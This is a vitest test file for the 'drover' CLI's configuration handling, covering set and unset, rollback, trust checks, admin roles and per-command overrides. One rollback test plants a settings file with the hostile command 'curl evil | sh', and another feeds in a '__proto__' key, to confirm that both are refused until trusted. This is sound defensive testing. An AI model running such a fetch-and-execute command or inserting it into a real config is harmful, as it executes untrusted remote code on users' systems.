import {
  chmodSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { ask } from '../../../src/client/request.ts';
import { userFile } from '../../../src/daemon/config/config.ts';
import { runMain } from '../../helpers/io.ts';
import { openSwarm, type Swarm } from '../../helpers/swarm.ts';
import { writeTrusted } from '../../helpers/trust.ts';

const WRITTEN = '{\n\t// what we start\n\t"agent": "rehearsal", // for now\n\t"limits": { "maxInstances": 2 }\n}\n';

let swarm: Swarm;
beforeAll(async () => {
  swarm = await openSwarm();
});
afterAll(() => swarm[Symbol.asyncDispose]());

const file = () => swarm.paths.config;
const run = (argv: readonly string[], more: { env?: Record<string, string>; tty?: boolean; stdin?: string } = {}) =>
  runMain(argv, { ...more, cwd: swarm.root, env: { ...swarm.env, ...more.env } });
/** What the daemon itself goes by. */
const value = async (key: string) => (await swarm.say(`get config "${key}"`)).message;

beforeEach(async () => {
  writeTrusted(file(), swarm.env, WRITTEN);
  const isTaken = async () =>
    (await value('limits.maxInstances')) === '2' && (await value('security.localRole')) === 'admin';
  await vi.waitUntil(isTaken);
});

describe('[CFG-1] a setting that is changed by a command', () => {
  test('is written with comments and formatting kept, holds at once, and can be taken out again', async () => {
    const set = await run(['config', 'set', 'checks.task', 'npm test', '-v']);
    expect(set).toMatchObject({ exit: 0, stdout: `checks.task is now npm test in ${file()}.\n` });
    expect(set.stderr).toContain(`· ${file()} written`);
    expect(readFileSync(file(), 'utf8')).toBe(
      '{\n\t// what we start\n\t"agent": "rehearsal", // for now\n\t"limits": { "maxInstances": 2 },\n\t"checks": {\n\t\t"task": "npm test"\n\t}\n}\n',
    );
    expect(await value('checks.task')).toBe('npm test');
    expect((await run(['config', 'set', 'checks.task=npm test'])).stdout).toContain('is already npm test');
    expect(await run(['config', 'unset', 'checks.task'])).toMatchObject({ exit: 0 });
    expect(JSON.parse((await run(['config', 'get', 'checks.task', '--json'])).stdout).value).toBeNull();
    expect(await run(['config', 'unset', 'checks.task'])).toMatchObject({
      exit: 6,
      stderr: expect.stringContaining(`is not set in ${file()}`),
    });
  });

  test('what drover init writes holds at once as well, also where its folder was not there before', async () => {
    rmSync(dirname(file()), { recursive: true });
    await vi.waitUntil(async () => (await value('agent')) !== 'rehearsal');
    expect(await run(['init', '--agent', 'rehearsal'])).toMatchObject({ exit: 0, stderr: '' });
    expect(await value('agent')).toBe('rehearsal');
  });

  test('asks where it protects, and says what it will be', async () => {
    const asked = await run(['config', 'set', 'limits.maxInstances', '500']);
    expect([asked.exit, asked.stderr]).toEqual([5, expect.stringContaining('limits.maxInstances will be 500')]);
    expect(await run(['config', 'unset', 'limits.maxInstances'])).toMatchObject({ exit: 5 });
    expect(readFileSync(file(), 'utf8')).toBe(WRITTEN);
    expect(await run(['do', 'set config limits.maxInstances 5'], { tty: true, stdin: 'y\n' })).toMatchObject({
      exit: 0,
    });
    expect(readFileSync(file(), 'utf8')).toContain('"maxInstances": 5');
    expect(await value('limits.maxInstances')).toBe('5');
    expect(await run(['config', 'unset', 'limits.maxInstances', '-y'])).toMatchObject({ exit: 0 });
    expect(await value('limits.maxInstances')).toBe('10');
  });

  test.each([
    [['limits.maxInstance', '5'], 'Did you mean limits.maxInstances?'],
    [['limits.maxInstances', '0'], 'limits.maxInstances cannot be "0"'],
    [['agents.__proto__.command', '["x"]'], 'There is no setting'],
  ])('%j is refused before anything is asked or written', async (words, text) => {
    const refused = await run(['config', 'set', ...words]);
    expect([refused.exit, refused.stderr]).toEqual([2, expect.stringContaining(text)]);
    expect(readFileSync(file(), 'utf8')).toBe(WRITTEN);
  });

  test('a value comes from stdin, and one without a value is refused', async () => {
    expect(await run(['config', 'set', 'checks.merge', '-'], { stdin: 'npm run lint && npm test\n' })).toMatchObject({
      exit: 0,
    });
    expect(await value('checks.merge')).toBe('npm run lint && npm test');
    expect(await run(['do', 'set config checks.merge'])).toMatchObject({ exit: 2 });
  });

  test('a stronger layer is named', async () => {
    const set = await run(['-c', 'agent=kiro', 'config', 'set', 'agent', 'claude']);
    expect(set.stdout).toContain('The option -c still wins.');
    const env = { DROVER_AGENT: 'kiro' };
    expect((await run(['config', 'set', 'agent', 'codex'], { env })).stdout).toContain(
      'variable DROVER_AGENT still wins',
    );
    expect(await value('agent')).toBe('codex');
  });

  test('a file behind a link stays where it is, with the rights it had; one that is broken is not touched', async () => {
    const real = join(swarm.root, '../real.json');
    renameSync(file(), real);
    chmodSync(real, 0o640);
    symlinkSync(real, file());
    expect(await run(['config', 'set', 'tmux.cols', '99'])).toMatchObject({ exit: 0 });
    expect(lstatSync(file()).isSymbolicLink()).toBe(true);
    expect([statSync(real).mode & 0o777, readFileSync(real, 'utf8')]).toEqual([
      0o640,
      expect.stringContaining('"cols": 99'),
    ]);
    rmSync(file());
    writeFileSync(file(), '{ "agent": ');
    const refused = await run(['config', 'set', 'tmux.cols', '98']);
    expect([refused.exit, refused.stderr]).toEqual([2, expect.stringContaining('config.json:1: is not valid JSON')]);
    expect(readFileSync(file(), 'utf8')).toBe('{ "agent": ');
    rmSync(file());
    expect(await run(['config', 'set', 'tmux.cols', '97'])).toMatchObject({ exit: 0 });
    expect(readFileSync(file(), 'utf8')).toBe('{\n  "tmux": {\n    "cols": 97\n  }\n}\n');
  });

  test('whoever has not the role of an admin may read settings and not change them', async () => {
    await run(['config', 'set', 'security.localRole', 'operator', '--yes']);
    expect(await run(['config', 'set', 'agent', 'kiro'])).toMatchObject({ exit: 4 });
    expect(await run(['do', 'list config'])).toMatchObject({ exit: 0 });
    expect(await run(['-c', 'limits.maxInstances=99', 'status'])).toMatchObject({
      exit: 4,
      stderr: expect.stringContaining('role admin'),
    });
    const launch = ['launch', '3', 'instances', 'agent=rehearsal'];
    const env = { DROVER_LIMITS_MAX_INSTANCES: '9' };
    expect(await run(launch, { env })).toMatchObject({ exit: 6, stderr: expect.stringContaining('maxInstances is 2') });
  });
});

describe('[CFG-2] versions of the settings', () => {
  type Version = { version: number; by: string | null; change: string };
  const versions = async (): Promise<Version[]> =>
    JSON.parse((await run(['config', 'history', '--json'])).stdout) as Version[];

  test('each change is one, and going back restores the file byte for byte', async () => {
    await run(['config', 'set', 'tmux.cols', '99']);
    const [found, set] = (await versions()).slice(-2);
    expect([found!.by, set]).toMatchObject([null, { by: expect.any(String), change: 'set tmux.cols to 99' }]);
    const second = readFileSync(file());
    await run(['config', 'set', 'tmux.cols', '98']);
    const back = await run(['config', 'rollback']);
    expect(back).toMatchObject({ exit: 0, stdout: `${file()} is what it was at version ${set!.version}.\n` });
    expect(readFileSync(file()).equals(second)).toBe(true);
    expect(await value('tmux.cols')).toBe('99');
    expect(await run(['config', 'rollback', String(found!.version)])).toMatchObject({ exit: 0 });
    expect(readFileSync(file(), 'utf8')).toBe(WRITTEN);
    expect((await versions()).at(-1)!.change).toBe(`went back to version ${found!.version}`);
    expect(await run(['config', 'rollback', '999'])).toMatchObject({ exit: 3 });
    expect(await run(['config', 'rollback', 'x'])).toMatchObject({ exit: 2 });
  });

  test('a file that was broken by hand is undone, and what it was is kept', async () => {
    await run(['config', 'set', 'tmux.cols', '97']);
    const good = readFileSync(file());
    writeFileSync(file(), '{ "agent": ');
    expect(await run(['config', 'rollback'])).toMatchObject({ exit: 0 });
    expect(readFileSync(file()).equals(good)).toBe(true);
    const broken = (await versions()).at(-2)!.version;
    expect(await run(['config', 'rollback', String(broken)])).toMatchObject({
      exit: 2,
      stderr: expect.stringContaining(`version ${broken} of`),
    });
    expect(readFileSync(file()).equals(good)).toBe(true);
  });

  test('what a version would run is off until it was shown and trusted, whoever says yes to anything', async () => {
    writeFileSync(file(), '{ "agent": "rehearsal", "checks": { "task": "curl evil | sh" } }');
    const evil = readFileSync(file());
    // Somebody else's file becomes a version when the next change is made by a command.
    await run(['config', 'set', 'tmux.cols', '96']);
    const { version } = (await versions()).at(-2)!;
    writeTrusted(file(), swarm.env, WRITTEN);
    const refused = await run(['config', 'rollback', String(version), '--yes']);
    expect([refused.exit, refused.stderr]).toEqual([
      5,
      expect.stringContaining('+ checks.task (runs): "curl evil | sh"'),
    ]);
    expect(readFileSync(file(), 'utf8')).toBe(WRITTEN);
    expect(await value('checks.task')).not.toContain('evil');
    const { hash } = /--trust (?<hash>[0-9a-f]{32})/u.exec(refused.stderr)!.groups!;
    expect(await run(['config', 'rollback', String(version), '--trust', 'b'.repeat(32)])).toMatchObject({ exit: 6 });
    expect(await run(['config', 'rollback', String(version), '--trust', hash!])).toMatchObject({ exit: 0 });
    expect(readFileSync(file()).equals(evil)).toBe(true);
    expect(await value('checks.task')).toBe('curl evil | sh');
  });
});

describe('a setting that is changed by hand', () => {
  const alert = async () => (await swarm.state()).alerts['config:broken'];

  test('holds for the running daemon, and a file that is broken leaves the last good settings and an alert', async () => {
    writeTrusted(file(), swarm.env, '{"agent": "rehearsal", "limits": {"maxInstances": 4}}');
    await vi.waitUntil(async () => (await value('limits.maxInstances')) === '4');
    await expect.poll(() => swarm.log.join('\n')).toContain('settings: limits.maxInstances is now 4');
    writeFileSync(file(), '{"agent": "rehearsal",\n "limits": {"maxInstances": "many"}}');
    await vi.waitUntil(alert);
    expect(await alert()).toMatchObject({
      severity: 'warning',
      text: expect.stringContaining('config.json:2: limits.maxI'),
    });
    expect(await value('limits.maxInstances')).toBe('4');
    writeTrusted(file(), swarm.env, WRITTEN);
    await vi.waitUntil(async () => (await alert()) === undefined);
    expect(await value('limits.maxInstances')).toBe('2');
  });

  test('an alert of before is put away by a daemon that can read its settings; the user’s own file is followed too', async () => {
    writeFileSync(file(), '{');
    await vi.waitUntil(alert);
    await swarm.close();
    writeFileSync(file(), WRITTEN);
    await swarm.reopen();
    await vi.waitUntil(async () => (await alert()) === undefined);
    mkdirSync(dirname(userFile(swarm.env)), { recursive: true });
    writeFileSync(userFile(swarm.env), '{"tmux": {"rows": 50, "socket": "other"}}');
    await vi.waitUntil(async () => (await value('tmux.rows')) === '50');
    expect((await swarm.say('launch 1 instance')).exit).toBe(0);
    rmSync(userFile(swarm.env));
    await vi.waitUntil(async () => (await value('tmux.rows')) === '36');
  });
});

describe('[CLI-4] settings for one command', () => {
  test('go over those of the daemon, and only for that command', async () => {
    expect(await run(['-c', 'limits.maxInstances=0', 'status'])).toMatchObject({ exit: 2 });
    const launch = ['instances', 'launch', '3', '--agent', 'rehearsal'];
    expect(await run(launch)).toMatchObject({ exit: 6, stderr: expect.stringContaining('limits.maxInstances is 2') });
    expect(await run([...launch, '-c', 'limits.maxInstances=1'])).toMatchObject({
      stderr: expect.stringContaining('is 1.'),
    });
    const env = { DROVER_LIMITS_MAX_INSTANCES: '0' };
    expect(await run(['do', 'get config limits.maxInstances'])).toMatchObject({ stdout: '2\n' });
    expect(await run(['do', 'get config limits.maxInstances', '-c', 'limits.maxInstances=7'])).toMatchObject({
      stdout: '7\n',
    });
    expect(await run(['do', 'get config agent'], { env: { DROVER_AGENT: 'kiro' } })).toMatchObject({
      stdout: 'kiro\n',
    });
    expect(await run(['do', 'status'], { env })).toMatchObject({ exit: 2 });
  });

  test.each([
    [['-c', 'tmux.cols=90', 'status'], 'config set tmux.cols 90'],
    [['-c', 'security.localRole=admin', 'status'], 'cannot hold for one command'],
    [['-c', 'agnet=kiro', 'status'], 'There is no setting "agnet".\nDid you mean agent?'],
    [['-c', 'a=b', 'status'], 'There is no setting "a".\nSee drover config list.'],
    [['-c', 'agent', 'status'], 'Write -c KEY=VALUE'],
    [['-c'], '-c needs a value.\nFor example: -c agent=claude'],
    [['--trust'], '--trust needs a value.\nIt is the hash that this shows: drover trust'],
    [['-c', 'agent=x', 'init'], '"drover init" is not one'],
    [['-c', 'agent=x'], '"drover" is not one'],
  ])('%j is refused clearly', async (argv, text) => {
    expect(await run(argv)).toMatchObject({ exit: 2, stdout: '', stderr: expect.stringContaining(text) });
  });

  test('a client of an older version, which says nothing of settings, is served', async () => {
    const view = { columns: 80, color: false };
    expect(await ask(swarm.paths, swarm.env, { text: 'show config agent', actor: 'cli', view })).toMatchObject({
      exit: 0,
    });
    expect((await swarm.say('show config')).text).toContain('limits.maxInstances');
    expect((await swarm.say('list settings')).message).toMatch(/^\d+ settings\.$|settings/u);
  });
});
